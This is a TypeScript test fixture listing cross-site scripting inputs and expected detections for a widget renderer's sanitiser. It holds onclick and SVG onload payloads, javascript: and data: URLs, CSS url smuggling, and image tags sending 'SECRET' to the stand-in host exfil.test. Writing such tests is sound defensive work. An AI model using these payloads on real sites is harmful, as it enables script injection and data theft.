import type { DoorCase } from './doors.ts';

/**
 * What a page without guards must be caught at. `door` tells by which one it came; the request to another host shows that
 * the count of requests would have seen one.
 */
const handler = (door: string) => `a <b onclick="alert('ran ${door}')">b</b>`;
const SHOWN = [
  'name',
  'subtitle',
  'greeting',
  'prompt',
  'placeholder',
  'launcherLabel',
  'question',
  'sourceTitle',
  'sourceHeading',
  'sourceQuote',
] as const;
const ADDRESSES = ['sourceUrl', 'contact'] as const;

export const CONTROL: readonly DoorCase[] = [
  {
    id: 'control-doors',
    text: 'plain',
    doors: Object.fromEntries([
      ...SHOWN.map((door) => [door, handler(door)]),
      ...ADDRESSES.map((door) => [door, `javascript:alert('ran ${door}')`]),
      // Not over https, which is what the guard looks at.
      ['avatar', 'http://exfil.test/avatar'],
    ]),
  },
  { id: 'control-handler', text: handler('anywhere') },
  { id: 'control-form', text: '<form><input name=q></form>' },
  { id: 'control-near', text: '<img src="/never?d=SECRET">' },
  { id: 'control-far', text: '<img src="http://exfil.test/never?d=SECRET">' },
];

/** What must be among the lines. The answer's door is the renderer's, without its sanitiser. Codes and messages of errors, and the description, are not here: the panel never shows them. */
export const expectedRed: readonly RegExp[] = [
  ...SHOWN.map((door) => new RegExp(`^doors executed .*ran ${door}\\b`)),
  // A source's address ends in a directive for its passage.
  ...ADDRESSES.map((door) => new RegExp(`^doors .*="javascript:alert\\('ran ${door}'\\)["#]`)),
  /^answers executed .*ran anywhere/,
  /^answers control-form: <form>/,
  /^\/never\?d=SECRET$/,
  /^http:\/\/exfil\.test\/avatar$/,
  /^http:\/\/exfil\.test\/never\?d=SECRET$/,
];

/** Words made for one door, which no corpus has. */
export const OURS: readonly DoorCase[] = [
  // A substitution function passes for a colour, and may bring an address into a background.
  ...[
    'var(--none, url(/never-accent))',
    'VAR(--none,image-set("/never-accent" 1x))',
    'env(none, url(/never-accent))',
  ].map((accent, index) => ({ id: `accent-${index}`, text: 'plain', doors: { accent } })),
  ...[
    'https://x" onerror="alert(1)',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '//exfil.test/x',
    ' https://exfil.test/x',
  ].map((avatar, index) => ({
    id: `avatar-${index}`,
    text: 'plain',
    doors: { avatar: index === 0 ? `x${avatar}` : avatar },
  })),
  ...[
    'javascript:alert(1)',
    'java\nscript:alert(1)',
    'JavaScript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'mailto:a@b.example?body=<b>',
  ].map((contact, index) => ({ id: `contact-${index}`, text: 'plain', doors: { contact, sourceUrl: contact } })),
];
